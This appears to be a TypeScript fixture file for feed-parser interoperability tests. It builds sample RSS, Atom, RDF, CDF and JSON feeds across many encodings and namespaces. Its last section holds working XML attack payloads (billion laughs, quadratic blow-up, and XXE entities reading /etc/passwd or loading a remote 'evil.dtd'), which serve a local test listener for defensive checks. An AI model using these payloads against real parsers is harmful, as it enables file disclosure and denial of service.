/**
 * Small feeds, generated here, for each class of well-formed feed the parser once refused or misread
 * (issue 16: encodings, namespaced roots, DOCTYPEs, Atom 0.3 modes, Media RSS, CDF, relative links), and
 * the attacks a DOCTYPE carries. `feed-parser.interop.test.ts` checks ours against them and
 * `bench/feed-parsers-compare.ts` runs the feed-parser libraries over the same bytes.
 */

export interface Expected {
  title?: string;
  link?: string;
  itemTitle?: string;
  itemLink?: string;
  itemImage?: string;
  itemSummaryIncludes?: string;
}

export interface InteropFixture {
  /** The failure class, as the issue names it. */
  kind: 'encoding' | 'namespace' | 'doctype' | 'content mode' | 'media and links';
  name: string;
  bytes: Uint8Array;
  contentType?: string;
  /** Where the feed was fetched: relative links resolve against it. */
  url: string;
  expected: Expected;
}

export const FIXTURE_URL = 'https://feeds.example/news/feed.xml';

/** A title with Latin, Cyrillic-free accents and a symbol: every Unicode encoding can carry it. */
const WIDE_TITLE = 'Café ☕ 日本 𝄞';

const rss = (title: string, prolog = '<?xml version="1.0"?>', rootAttributes = '') =>
  `${prolog}<rss version="2.0"${rootAttributes}><channel><title>${title}</title><link>https://site.example/</link>` +
  `<item><title>${title} item</title><link>https://site.example/1</link></item></channel></rss>`;

const bytesOf = (...parts: (string | number[])[]) =>
  new Uint8Array(
    Buffer.concat(
      parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))),
    ),
  );

function utf16(text: string, bigEndian: boolean): Uint8Array {
  const little = Buffer.from(text, 'utf16le');
  return new Uint8Array(bigEndian ? Buffer.from(little).swap16() : little);
}

function utf32(text: string, bigEndian: boolean): Uint8Array {
  const points = [...text].map((char) => char.codePointAt(0) ?? 0);
  const buffer = Buffer.alloc(points.length * 4);
  points.forEach((point, index) => {
    if (bigEndian) buffer.writeUInt32BE(point, index * 4);
    else buffer.writeUInt32LE(point, index * 4);
  });
  return new Uint8Array(buffer);
}

const BOM = '\uFEFF';
const wideExpected: Expected = {
  title: WIDE_TITLE,
  link: 'https://site.example/',
  itemTitle: `${WIDE_TITLE} item`,
  itemLink: 'https://site.example/1',
};

function wide(name: string, encode: (text: string) => Uint8Array, declared?: string): InteropFixture {
  const prolog = declared ? `<?xml version="1.0" encoding="${declared}"?>` : '';
  return {
    kind: 'encoding',
    name,
    bytes: encode(rss(WIDE_TITLE, prolog)),
    url: FIXTURE_URL,
    expected: wideExpected,
  };
}

/** A legacy single- or double-byte charset: an ASCII document with the title's bytes in that charset. */
function legacy(
  charset: string,
  title: string,
  titleBytes: number[],
  via: 'declaration' | 'header',
): InteropFixture {
  const prolog =
    via === 'declaration' ? `<?xml version="1.0" encoding="${charset}"?>` : '<?xml version="1.0"?>';
  const [before, middle, end] = rss('\u0000', prolog).split('\u0000') as [string, string, string];
  return {
    kind: 'encoding',
    name: `${charset} by its ${via === 'declaration' ? 'XML declaration' : 'HTTP charset'}`,
    bytes: bytesOf(before, titleBytes, middle, titleBytes, end),
    contentType: via === 'header' ? `application/rss+xml; charset=${charset}` : undefined,
    url: FIXTURE_URL,
    expected: { title, itemTitle: `${title} item`, link: 'https://site.example/' },
  };
}

const atom = (body: string, root = 'feed', prefix = '') =>
  `<?xml version="1.0" encoding="utf-8"?><${prefix}${root} xmlns${prefix ? `:${prefix.slice(0, -1)}` : ''}="http://www.w3.org/2005/Atom">${body}</${prefix}${root}>`;

const NETSCAPE_DOCTYPE =
  '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">';

export const INTEROP_FIXTURES: InteropFixture[] = [
  // ---------------------------------------------------------------- encodings
  wide('UTF-16 LE with a BOM', (text) => utf16(BOM + text, false)),
  wide('UTF-16 BE with a BOM', (text) => utf16(BOM + text, true)),
  wide('UTF-16 LE without a BOM, declared', (text) => utf16(text, false), 'UTF-16'),
  wide('UTF-16 BE without a BOM, declared', (text) => utf16(text, true), 'UTF-16'),
  wide('UTF-16 LE without a BOM or declaration (detected)', (text) => utf16(text, false)),
  wide('UTF-32 LE with a BOM', (text) => utf32(BOM + text, false)),
  wide('UTF-32 BE with a BOM', (text) => utf32(BOM + text, true)),
  wide('UTF-32 LE without a BOM, declared', (text) => utf32(text, false), 'UTF-32'),
  wide('UTF-32 BE without a BOM, declared', (text) => utf32(text, true), 'UTF-32'),
  wide('UTF-8 declared as UTF-16 (as .NET writes it)', (text) => new TextEncoder().encode(text), 'utf-16'),
  legacy(
    'windows-1252',
    'Caf\u00e9 \u201cquoted\u201d \u2013 \u20ac',
    [0x43, 0x61, 0x66, 0xe9, 0x20, 0x93, 0x71, 0x75, 0x6f, 0x74, 0x65, 0x64, 0x94, 0x20, 0x96, 0x20, 0x80],
    'declaration',
  ),
  legacy('ISO-8859-2', 'łódź', [0xb3, 0xf3, 0x64, 0xbc], 'declaration'),
  legacy('ISO-8859-15', '€', [0xa4], 'declaration'),
  legacy('KOI8-R', 'Привет', [0xf0, 0xd2, 0xc9, 0xd7, 0xc5, 0xd4], 'declaration'),
  legacy('KOI8-R', 'Привет', [0xf0, 0xd2, 0xc9, 0xd7, 0xc5, 0xd4], 'header'),
  legacy('Shift_JIS', '日本語', [0x93, 0xfa, 0x96, 0x7b, 0x8c, 0xea], 'declaration'),
  legacy('EUC-JP', '日本語', [0xc6, 0xfc, 0xcb, 0xdc, 0xb8, 0xec], 'declaration'),
  legacy('GBK', '中文', [0xd6, 0xd0, 0xce, 0xc4], 'declaration'),
  legacy('GB18030', '中文€', [0xd6, 0xd0, 0xce, 0xc4, 0xa2, 0xe3], 'declaration'),
  legacy('Big5', '中文', [0xa4, 0xa4, 0xa4, 0xe5], 'header'),
  {
    kind: 'encoding',
    name: 'the HTTP charset of an XML media type outranks the XML declaration (RFC 7303)',
    bytes: new TextEncoder().encode(rss('Café', '<?xml version="1.0" encoding="ISO-8859-1"?>')),
    contentType: 'application/xml; charset=utf-8',
    url: FIXTURE_URL,
    expected: { title: 'Café', itemTitle: 'Café item' },
  },
  {
    kind: 'encoding',
    name: "a server's default ISO-8859-1 on a valid UTF-8 document that declares UTF-8",
    bytes: new TextEncoder().encode(rss('Café', '<?xml version="1.0" encoding="UTF-8"?>')),
    contentType: 'text/xml; charset=ISO-8859-1',
    url: FIXTURE_URL,
    expected: { title: 'Café' },
  },
  {
    kind: 'encoding',
    name: 'JSON Feed in UTF-16 with a BOM',
    bytes: utf16(
      BOM +
        JSON.stringify({
          version: 'https://jsonfeed.org/version/1.1',
          title: WIDE_TITLE,
          home_page_url: 'https://site.example/',
          items: [{ id: '1', url: 'https://site.example/1', title: `${WIDE_TITLE} item` }],
        }),
      false,
    ),
    url: FIXTURE_URL,
    expected: wideExpected,
  },

  // ---------------------------------------------------------------- namespaces
  {
    kind: 'namespace',
    name: 'Atom 1.0 with a prefixed root (atom:feed)',
    bytes: new TextEncoder().encode(
      atom(
        '<atom:title>Prefixed</atom:title><atom:link href="https://site.example/"/><atom:entry><atom:title>Entry</atom:title><atom:link href="https://site.example/1"/><atom:id>urn:1</atom:id></atom:entry>',
        'feed',
        'atom:',
      ),
    ),
    url: FIXTURE_URL,
    expected: {
      title: 'Prefixed',
      link: 'https://site.example/',
      itemTitle: 'Entry',
      itemLink: 'https://site.example/1',
    },
  },
  {
    kind: 'namespace',
    name: 'Atom 1.0 with a prefixed root, served as text/html',
    bytes: new TextEncoder().encode(
      '<atom:feed xmlns:atom="http://www.w3.org/2005/Atom"><atom:title>Served as HTML</atom:title><atom:entry><atom:title>Entry</atom:title><atom:link href="https://site.example/1"/></atom:entry></atom:feed>',
    ),
    contentType: 'text/html; charset=utf-8',
    url: FIXTURE_URL,
    expected: { title: 'Served as HTML', itemTitle: 'Entry', itemLink: 'https://site.example/1' },
  },
  {
    kind: 'namespace',
    name: 'Atom 1.0 under an unusual prefix (a10:feed)',
    bytes: new TextEncoder().encode(
      '<a10:feed xmlns:a10="http://www.w3.org/2005/Atom"><a10:title>A10</a10:title><a10:entry><a10:title>E</a10:title><a10:link href="/1"/></a10:entry></a10:feed>',
    ),
    url: FIXTURE_URL,
    expected: { title: 'A10', itemTitle: 'E', itemLink: 'https://feeds.example/1' },
  },
  {
    kind: 'namespace',
    name: 'RSS 0.92 in its UserLand default namespace',
    bytes: new TextEncoder().encode(rss('Userland', '', ' xmlns="http://backend.userland.com/rss"')),
    url: FIXTURE_URL,
    expected: { title: 'Userland', link: 'https://site.example/', itemTitle: 'Userland item' },
  },
  {
    kind: 'namespace',
    name: 'RSS 2.0 in a default namespace of its own',
    bytes: new TextEncoder().encode(rss('Own namespace', '', ' xmlns="http://purl.org/rss/2.0/"')),
    url: FIXTURE_URL,
    expected: { title: 'Own namespace', link: 'https://site.example/', itemTitle: 'Own namespace item' },
  },
  {
    kind: 'namespace',
    name: 'RSS 1.0 (RDF) with the RSS elements prefixed',
    bytes: new TextEncoder().encode(
      '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:r="http://purl.org/rss/1.0/"><r:channel rdf:about="https://site.example/"><r:title>RDF</r:title><r:link>https://site.example/</r:link></r:channel><r:item rdf:about="https://site.example/1"><r:title>Item</r:title><r:link>https://site.example/1</r:link></r:item></rdf:RDF>',
    ),
    url: FIXTURE_URL,
    expected: {
      title: 'RDF',
      link: 'https://site.example/',
      itemTitle: 'Item',
      itemLink: 'https://site.example/1',
    },
  },

  // ---------------------------------------------------------------- DOCTYPEs
  {
    kind: 'doctype',
    name: "RSS 0.91 with Netscape's DOCTYPE and HTML entities",
    bytes: new TextEncoder().encode(
      `<?xml version="1.0" encoding="ISO-8859-1"?>${NETSCAPE_DOCTYPE}<rss version="0.91"><channel><title>Caf&eacute; &amp; Bar&nbsp;&mdash; news</title><link>https://site.example/</link><item><title>R&eacute;sum&eacute;</title><link>https://site.example/1</link></item></channel></rss>`,
    ),
    url: FIXTURE_URL,
    expected: {
      title: 'Café & Bar — news',
      link: 'https://site.example/',
      itemTitle: 'Résumé',
      itemLink: 'https://site.example/1',
    },
  },
  {
    kind: 'doctype',
    name: 'Atom with a DOCTYPE and an internal subset holding comments, quotes and ">"',
    bytes: new TextEncoder().encode(
      '<?xml version="1.0"?><!-- generated --><!DOCTYPE feed [ <!-- a ] > comment --> <!ENTITY site "x > y ]"> <!ATTLIST feed a CDATA "]>"> ]><feed xmlns="http://www.w3.org/2005/Atom"><title>Subset</title><entry><title>E &site;</title><link href="https://site.example/1"/></entry></feed>',
    ),
    url: FIXTURE_URL,
    expected: { title: 'Subset', itemTitle: 'E &site;', itemLink: 'https://site.example/1' },
  },

  // ---------------------------------------------------------------- Atom 0.3 modes
  {
    kind: 'content mode',
    name: 'Atom 0.3 base64 title and content, escaped summary',
    bytes: new TextEncoder().encode(
      `<feed version="0.3" xmlns="http://purl.org/atom/ns#"><title mode="base64">${Buffer.from('Base64 feed').toString('base64')}</title><link rel="alternate" type="text/html" href="https://site.example/"/><entry><title type="text/plain" mode="base64">${Buffer.from('Entr\u00e9e 1').toString('base64')}</title><link rel="alternate" type="text/html" href="https://site.example/1"/><id>urn:1</id><summary type="text/html" mode="escaped">&lt;p&gt;Escaped &amp;amp; summary&lt;/p&gt;</summary><content type="text/html" mode="base64">${Buffer.from('<p>Decoded</p>').toString('base64')}</content></entry></feed>`,
    ),
    url: FIXTURE_URL,
    expected: {
      title: 'Base64 feed',
      link: 'https://site.example/',
      itemTitle: 'Entrée 1',
      itemLink: 'https://site.example/1',
      itemSummaryIncludes: '<p>Escaped &amp; summary</p>',
    },
  },
  {
    kind: 'content mode',
    name: 'Atom 0.3 escaped html title',
    bytes: new TextEncoder().encode(
      '<feed version="0.3" xmlns="http://purl.org/atom/ns#"><title type="text/html" mode="escaped">&lt;b&gt;Bold&lt;/b&gt; title</title><entry><title>E</title><link rel="alternate" href="https://site.example/1"/></entry></feed>',
    ),
    url: FIXTURE_URL,
    expected: { title: 'Bold title', itemTitle: 'E', itemLink: 'https://site.example/1' },
  },

  // ---------------------------------------------------------------- Media RSS, CDF, relative links
  {
    kind: 'media and links',
    name: "YouTube's channel feed (media:group title, description, thumbnail)",
    bytes: new TextEncoder().encode(
      '<?xml version="1.0" encoding="UTF-8"?><feed xmlns:yt="http://www.youtube.com/xml/schemas/2015" xmlns:media="http://search.yahoo.com/mrss/" xmlns="http://www.w3.org/2005/Atom"><link rel="self" href="https://www.youtube.com/feeds/videos.xml?channel_id=UC1"/><title>A channel</title><link rel="alternate" href="https://www.youtube.com/channel/UC1"/><entry><id>yt:video:abc</id><yt:videoId>abc</yt:videoId><title>A video</title><link rel="alternate" href="https://www.youtube.com/watch?v=abc"/><published>2024-01-02T03:04:05+00:00</published><media:group><media:title>A video</media:title><media:content url="https://www.youtube.com/v/abc?version=3" type="application/x-shockwave-flash" width="640" height="390"/><media:thumbnail url="https://i1.ytimg.com/vi/abc/hqdefault.jpg" width="480" height="360"/><media:description>What the video is about &amp; more</media:description></media:group></entry></feed>',
    ),
    url: FIXTURE_URL,
    expected: {
      title: 'A channel',
      link: 'https://www.youtube.com/channel/UC1',
      itemTitle: 'A video',
      itemLink: 'https://www.youtube.com/watch?v=abc',
      itemImage: 'https://i1.ytimg.com/vi/abc/hqdefault.jpg',
      itemSummaryIncludes: 'What the video is about &amp; more',
    },
  },
  {
    kind: 'media and links',
    name: 'RSS item titled only by media:title, pictured by an image enclosure',
    bytes: new TextEncoder().encode(
      '<rss version="2.0" xmlns:media="http://search.yahoo.com/mrss/"><channel><title>Photos</title><link>https://site.example/</link><item><link>https://site.example/p/1</link><media:title>Sunset</media:title><enclosure url="/img/sunset.jpg" type="image/jpeg" length="1"/></item></channel></rss>',
    ),
    url: FIXTURE_URL,
    expected: {
      title: 'Photos',
      itemTitle: 'Sunset',
      itemLink: 'https://site.example/p/1',
      itemImage: 'https://feeds.example/img/sunset.jpg',
    },
  },
  {
    kind: 'media and links',
    name: 'CDF channel and items linked by HREF attributes',
    bytes: new TextEncoder().encode(
      '<?xml version="1.0"?><CHANNEL HREF="https://site.example/" BASE="https://site.example/"><TITLE>CDF channel</TITLE><ABSTRACT>About</ABSTRACT><ITEM HREF="https://site.example/1" LASTMOD="2004-01-02T03:04"><TITLE>CDF item</TITLE><ABSTRACT>Item abstract</ABSTRACT></ITEM></CHANNEL>',
    ),
    url: FIXTURE_URL,
    expected: {
      title: 'CDF channel',
      link: 'https://site.example/',
      itemTitle: 'CDF item',
      itemLink: 'https://site.example/1',
      itemSummaryIncludes: 'Item abstract',
    },
  },
  {
    kind: 'media and links',
    name: 'relative links against xml:base, and against the document URL without one',
    bytes: new TextEncoder().encode(
      '<feed xmlns="http://www.w3.org/2005/Atom"><title>Relative</title><link href="../"/><entry xml:base="https://other.example/blog/"><title>Based</title><link href="post/1"/></entry></feed>',
    ),
    url: FIXTURE_URL,
    expected: {
      title: 'Relative',
      link: 'https://feeds.example/',
      itemTitle: 'Based',
      itemLink: 'https://other.example/blog/post/1',
    },
  },
];

// ---------------------------------------------------------------------------------------------------
// Attacks carried by a DOCTYPE
// ---------------------------------------------------------------------------------------------------

export interface AttackFixture {
  name: string;
  text: string;
}

const LAUGHS = Array.from({ length: 9 }, (_, level) => {
  const inner = level === 0 ? 'lol' : `&lol${level - 1};`;
  return `<!ENTITY lol${level} "${inner.repeat(10)}">`;
}).join('');

const BLOWUP_ENTITY = 'A'.repeat(50_000);

/**
 * The attack documents. `{http}` stands for an http://127.0.0.1:PORT address the caller listens on, to
 * see whether anything is fetched.
 */
export function attackFixtures(http: string): AttackFixture[] {
  return [
    {
      name: 'billion laughs (10⁹ "lol"s from 9 nested entities)',
      text: `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY lol "lol">${LAUGHS}]><rss version="2.0"><channel><title>&lol8;</title><item><title>&lol8;</title><description>&lol8;</description></item></channel></rss>`,
    },
    {
      name: 'quadratic blow-up (one 50 KB entity referenced 20 000 times: 1 GB)',
      text: `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "${BLOWUP_ENTITY}">]><rss version="2.0"><channel><title>t</title><item><title>x</title><description>${'&a;'.repeat(20_000)}</description></item></channel></rss>`,
    },
    {
      name: 'XXE: a file:// SYSTEM entity',
      text: '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><title>&xxe;</title><item><title>&xxe;</title><description>&xxe;</description></item></channel></rss>',
    },
    {
      name: 'XXE: an http:// SYSTEM entity',
      text: `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "${http}/entity">]><rss version="2.0"><channel><title>&xxe;</title><item><title>&xxe;</title><description>&xxe;</description></item></channel></rss>`,
    },
    {
      name: 'XXE: a parameter entity loading an external DTD',
      text: `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % remote SYSTEM "${http}/evil.dtd"> %remote; <!ENTITY % file SYSTEM "file:///etc/hostname">]><rss version="2.0"><channel><title>t</title><item><title>x &exfil;</title></item></channel></rss>`,
    },
    {
      name: 'XXE: an external DTD in the DOCTYPE itself',
      text: `<?xml version="1.0"?><!DOCTYPE rss SYSTEM "${http}/external.dtd"><rss version="2.0"><channel><title>t</title><item><title>x</title></item></channel></rss>`,
    },
  ];
}
